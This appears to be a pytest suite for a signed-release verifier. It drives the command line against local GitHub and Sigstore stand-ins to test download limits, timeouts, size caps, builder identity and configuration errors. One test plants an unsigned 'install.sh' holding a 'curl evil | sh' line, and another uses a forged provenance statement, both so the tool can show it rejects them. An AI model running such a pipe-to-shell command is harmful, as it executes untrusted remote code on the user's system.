""" "verify: passed" means what it says (issue: "audited" must mean audited, 1, 6-12).

Each case drives the real command line against the loopback GitHub and Sigstore servers: the
pins an operator holds, what lands in dist and when, how long a hostile server can hold a run,
how much it can make it read, whose workflow the statement may name, bad configuration, and an
interrupted demo.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from release.checks import verify_release
from release.errors import VerificationFailed
from release.github import GitHubClient
from tests.conftest import GITHUB_TOKEN
from tests.helpers import (
    LICENCE,
    MANIFEST,
    NOTICE,
    ONNX_BUNDLE,
    PROVENANCE,
    RELEASE_IDENTITY,
    ROOT,
    pins_file,
    run_cli,
    signer_for,
)
from tests.release.test_trust_boundary import (
    REPO,
    TAG,
    Workspace,
    assert_one_line_failure,
    attach_lib,
    tree,
    verify_download,
)

pytestmark = pytest.mark.slow


def _add_asset(github, name: str, data: bytes, tmp_path: Path) -> None:
    """Put one more (unsigned) file on the published release, as anyone with write access could."""
    client = GitHubClient(api_url=github.url, repo=REPO, token=GITHUB_TOKEN)
    release = client.find_release(TAG)
    path = tmp_path / name
    path.write_bytes(data)
    client.upload_asset(release, path, name, "text/plain", lambda: None)


@pytest.fixture
def operator(tmp_path) -> Workspace:
    space = Workspace(tmp_path / "operator")
    space.root.mkdir()
    return space


@pytest.fixture
def published(github, signed, instance, pins):
    attach_lib(github, signed, instance, pins)
    return signed


# -- 1. a verifier whose pins leave the checkpoint unpinned passes nothing as audited ------------


def test_verify_holding_no_checkpoint_pin_refuses_every_release(signed, instance, pins, tmp_path):
    no_checkpoint = replace(pins, checkpoint_sha256=None)
    with pytest.raises(VerificationFailed, match=r"audited pins.*no u2netp\.pin\.checkpoint_sha256"):
        verify_release(signed, signer_for(), instance, no_checkpoint)
    checks = verify_release(signed, signer_for(), instance, no_checkpoint, allow_unpinned=True)
    (warned,) = [check for check in checks if check.warning]
    assert "no checkpoint has been audited" in warned.detail
    # The console script: its --pins file leaves the key out; an empty value is a usage error.
    console = [str(Path(sys.executable).with_name("u2netp-mirror")), "verify", "--dist", str(signed)]
    console += ["--cert-identity", RELEASE_IDENTITY, "--trust-config", str(instance.trust_config), "--pins"]
    result = subprocess.run(
        [*console, str(pins_file(no_checkpoint, tmp_path))], capture_output=True, text=True, timeout=120, check=False
    )
    assert result.returncode == 1 and "no checkpoint has been audited" in result.stderr
    empty = tmp_path / "empty-pin.json"
    document = json.loads(pins_file(pins, tmp_path).read_text())
    document["u2netp"]["pin"]["checkpoint_sha256"] = ""
    empty.write_text(json.dumps(document))
    result = subprocess.run([*console, str(empty)], capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "u2netp.pin.checkpoint_sha256: empty" in result.stderr


def test_attach_names_the_pin_that_does_not_hold(github, signed, instance, pins):
    from mirror.errors import MirrorError

    with pytest.raises(MirrorError, match=r"a audited build, not the audited model \(upstream.checkpoint_sha256: "):
        attach_lib(github, signed, instance, replace(pins, checkpoint_sha256=None))
    assert github.mutating_requests() == []


# -- 6. only the files the signed manifest and statement name are downloaded -------------------


def test_an_unsigned_notice_stays_on_the_server(github, published, trust_config, pristine, operator, tmp_path):
    _add_asset(github, NOTICE, b"May only be used under the terms at https://evil.invalid\n", tmp_path)
    _add_asset(github, "install.sh", b"curl evil | sh\n", tmp_path)
    result = verify_download(operator, github, trust_config, pristine)
    assert result.returncode == 0, result.stderr
    assert f"left on the server, not part of the signed release: install.sh, {NOTICE}" in result.stdout
    assert NOTICE not in tree(operator.dist)
    assert sorted(tree(operator.dist)) == sorted(path.name for path in published.iterdir())


def test_no_provenance_leaves_the_provenance_on_the_server(github, published, trust_config, pristine, operator):
    # A release that carries a statement was made by a version that signs one: --no-provenance is refused,
    # and the statement it would have ignored was never downloaded into dist either way.
    result = verify_download(operator, github, trust_config, pristine, "--no-provenance")
    assert_one_line_failure(result, "--no-provenance is only for releases made before")
    assert tree(operator.dist) == {}


# -- 7. dist changes all at once or not at all -------------------------------------------------


def test_a_directory_in_the_way_changes_nothing(github, published, trust_config, pristine, operator):
    first = verify_download(operator, github, trust_config, pristine)
    assert first.returncode == 0, first.stderr
    (operator.dist / LICENCE).unlink()
    (operator.dist / LICENCE).mkdir()
    (operator.dist / NOTICE).write_text("stale, from an older release\n")
    before = tree(operator.dist)
    requests_before = len(github.requests)
    result = verify_download(operator, github, trust_config, pristine)
    assert_one_line_failure(result, f"{LICENCE}: is a directory or a link", "nothing was downloaded")
    assert tree(operator.dist) == before
    assert len(github.requests) == requests_before


def test_a_mount_point_as_dist_works(github, published, trust_config, pristine, operator):
    # A container volume: dist is the root of its own file system.  Staging beside it failed
    # with "Invalid cross-device link" after downloading everything.
    operator.dist.mkdir()
    (operator.dist / NOTICE).write_text("stale\n")
    from tests.release.test_trust_boundary import cli_env

    env = cli_env(github, pristine)
    verify = [sys.executable, "-m", "invoke", "--search-root", str(ROOT), "verify", "--repo", REPO, "--tag", TAG]
    verify += ["--dist", str(operator.dist), "--trust-config", str(trust_config)]
    script = (
        f"mount -t tmpfs -o size=64m tmpfs {operator.dist} && "
        f"{' '.join(map(repr, verify))}; status=$?; ls -A {operator.dist} > {operator.root / 'listing'}; exit $status"
    )
    result = subprocess.run(
        ["unshare", "--mount", "--map-root-user", "sh", "-c", script],
        capture_output=True,
        text=True,
        env=env,
        timeout=180,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    listing = (operator.root / "listing").read_text().split()
    assert sorted(listing) == sorted(path.name for path in published.iterdir())


# -- 8. --timeout bounds connect, headers and body of every request ----------------------------


@pytest.mark.parametrize("mode", ["list_headers", "list_body", "download_headers"])
def test_a_server_trickling_one_byte_a_second_is_cut_off(github, published, trust_config, pristine, operator, mode):
    github.slow_mode = mode
    github.trickle_seconds = 0.5
    start = time.monotonic()
    result = verify_download(operator, github, trust_config, pristine, "--timeout", "2")
    took = time.monotonic() - start
    assert_one_line_failure(result, "no complete answer within 2 s", "--timeout")
    # Bounded by the deadline (2 s per attempt, and a deadline is not retried), not by the server.
    assert took < 40, took
    assert tree(operator.dist) == {}


# -- 9. reads are capped by what a file of that kind can be -------------------------------------


def test_a_huge_bundle_is_refused_before_it_is_downloaded(github, published, trust_config, pristine, operator):
    (release,) = github.releases.values()
    bundle = next(a for a in release.assets.values() if a.name == ONNX_BUNDLE)
    with bundle.path.open("ab") as stream:
        stream.truncate(600 << 20)  # a sparse 600 MiB "bundle"
    bundle.size = 600 << 20
    bundle.digest = None
    served_before = len(github.requests)
    result = verify_download(operator, github, trust_config, pristine)
    assert_one_line_failure(result, f"{ONNX_BUNDLE}: 629,145,600 bytes announced", "refusing")
    assert not any("/download/" in path for _, path in github.requests[served_before:])
    assert tree(operator.dist) == {}
    assert sorted(tree(operator.root)) == []


def test_a_bundle_in_dist_is_read_with_a_cap(signed, instance, pins):
    bundle = signed / ONNX_BUNDLE
    with bundle.open("ab") as stream:
        stream.truncate(64 << 20)
    with pytest.raises(VerificationFailed, match=r"over 1,024 KiB; not a Sigstore bundle"):
        verify_release(signed, signer_for(), instance, pins)


def test_endless_pagination_is_cut_off(github, published, trust_config, pristine, operator):
    github.next_link = f"{github.url}/repos/{REPO}/releases?per_page=100"  # this very page, again and again
    result = verify_download(operator, github, trust_config, pristine)
    assert_one_line_failure(result, "the same page twice")
    assert tree(operator.dist) == {}


# -- 10. the statement's builder is the workflow that signed it --------------------------------


def test_a_statement_naming_another_workflow_as_builder_is_refused(signed, instance, sigstore_stack, pins):
    from sigstore import dsse
    from sigstore.models import ClientTrustConfig
    from sigstore.oidc import IdentityToken
    from sigstore.sign import SigningContext

    from release.attestation import PREDICATE_TYPE, predicate

    manifest = json.loads((signed / MANIFEST).read_text())
    actions = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_WORKFLOW_REF": "mallory/elsewhere/.github/workflows/release.yml@refs/tags/u2netp-mirror-v1.0.0",
        "GITHUB_REPOSITORY": "mallory/elsewhere",
        "GITHUB_RUN_ID": "1",
    }
    old = json.loads(dsse_payload(signed))
    statement = (
        dsse.StatementBuilder()
        .subjects([dsse.Subject(name=s["name"], digest=dsse.DigestSet(s["digest"])) for s in old["subject"]])
        .predicate_type(PREDICATE_TYPE)
        .predicate(predicate(manifest, actions))
        .build()
    )
    trust = ClientTrustConfig.from_json(Path(instance.trust_config).read_text())
    with SigningContext.from_trust_config(trust).signer(
        IdentityToken(sigstore_stack.token(RELEASE_IDENTITY))
    ) as signer:
        bundle = signer.sign_dsse(statement)
    (signed / PROVENANCE).write_text(bundle.to_json())
    with pytest.raises(VerificationFailed, match=r"names the builder 'https://github\.com/mallory/elsewhere/"):
        verify_release(signed, signer_for(), instance, pins)


def dsse_payload(dist: Path) -> bytes:
    import base64

    bundle = json.loads((dist / PROVENANCE).read_text())
    return base64.b64decode(bundle["dsseEnvelope"]["payload"])


# -- 11. bad configuration: one line naming the key, exit 2 ------------------------------------


@pytest.mark.parametrize(
    ("variable", "value", "message"),
    [
        ("INVOKE_U2NETP_GITHUB_ATTEMPTS", "0", "u2netp.github.attempts='0': out of range"),
        ("INVOKE_U2NETP_GITHUB_TIMEOUT_SECONDS", "-5", "u2netp.github.timeout_seconds='-5': out of range"),
        ("INVOKE_U2NETP_GITHUB_BACKOFF_SECONDS", "soon", "u2netp.github.backoff_seconds='soon': not a number"),
        ("INVOKE_U2NETP_SIGSTORE_CERT_IDENTITY", "https://github.com/{0}/x@{tag}", "names {0}; only {repo} and {tag}"),
        ("INVOKE_U2NETP_PIN_COMMIT", "", "u2netp.pin.commit: empty"),
        ("INVOKE_U2NETP_EXPORT_TOLERANCE", "nan", "u2netp.export.tolerance='nan': out of range"),
    ],
)
def test_a_bad_config_value_is_one_line_naming_the_key(tmp_path, variable, value, message):
    result = run_cli("verify", "--repo", REPO, "--tag", TAG, "--dist", str(tmp_path / "d"), env={variable: value})
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr and result.stderr.count("\n") == 1, result.stderr
    assert message in result.stderr


# -- 12. an interrupted demo cleans up, says so, and exits 128 + the signal ---------------------


@pytest.mark.parametrize(("sent", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_an_interrupted_demo_stops_cleans_up_and_says_so(tmp_path, sent, code):
    temp = tmp_path / "tmp"
    temp.mkdir()
    process = subprocess.Popen(
        [sys.executable, "-m", "invoke", "--search-root", str(ROOT), "demo", "--dist", str(tmp_path / "demo")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
        env={**os.environ, "TMPDIR": str(temp)},
    )
    assert process.stdout is not None
    seen = []
    for line in process.stdout:  # wait until the servers are up and the release is under way
        seen.append(line)
        if line.startswith("demo: export"):
            break
    process.send_signal(sent)
    out, err = process.communicate(timeout=120)
    assert process.returncode == code, (seen, out, err)
    assert "Traceback" not in err and "BrokenPipeError" not in err
    assert f"demo: {'interrupted' if sent == signal.SIGINT else 'terminated'}; servers stopped" in err
    # onnxruntime (1.32) writes its own telemetry session file, .ses, into $TMPDIR on import.
    assert [path.name for path in temp.iterdir() if path.name != ".ses"] == []
    shutil.rmtree(tmp_path / "demo", ignore_errors=True)


@pytest.mark.parametrize("held", [True, False])
def test_verify_reports_the_upstream_witness_the_manifest_signs(tmp_path, instance, sigstore_stack, held):
    from release.signing import sign_release
    from tests.release.synthetic import HELD_WITNESS, PINS, write_release

    witnessed = dict(HELD_WITNESS)
    if not held:
        witnessed.update(worst_max_diff=9, held=False)
    dist = tmp_path / "dist"
    # A witness that did not hold makes the build "unpinned", so verify needs --allow-unpinned for it.
    write_release(dist, witness=witnessed, build_kind="audited" if held else "unpinned")
    sign_release(dist, instance, sigstore_stack.token(RELEASE_IDENTITY), expected=signer_for())
    checks = {
        check.name: check for check in verify_release(dist, signer_for(), instance, PINS, allow_unpinned=not held)
    }
    reported = checks["upstream witness"]
    assert reported.warning is not held
    assert ("held: 18 of upstream's saved maps, worst 1/255" if held else "did not hold: 18 of") in reported.detail


@pytest.mark.parametrize("witnessed", ["missing", "did not hold"])
def test_an_audited_build_without_a_witness_that_held_is_refused(tmp_path, instance, sigstore_stack, witnessed):
    from release.signing import sign_release
    from tests.release.synthetic import HELD_WITNESS, PINS, write_release

    dist = tmp_path / "dist"
    # A manifest that says "audited" though no witness held: not what the manifest step writes.
    write_release(dist, witness={} if witnessed == "missing" else {**HELD_WITNESS, "held": False})
    if witnessed == "missing":
        document = json.loads((dist / MANIFEST).read_text())
        del document["witness"]
        (dist / MANIFEST).write_text(json.dumps(document))
    sign_release(dist, instance, sigstore_stack.token(RELEASE_IDENTITY), expected=signer_for())
    with pytest.raises(VerificationFailed, match="records no upstream witness that held"):
        verify_release(dist, signer_for(), instance, PINS)
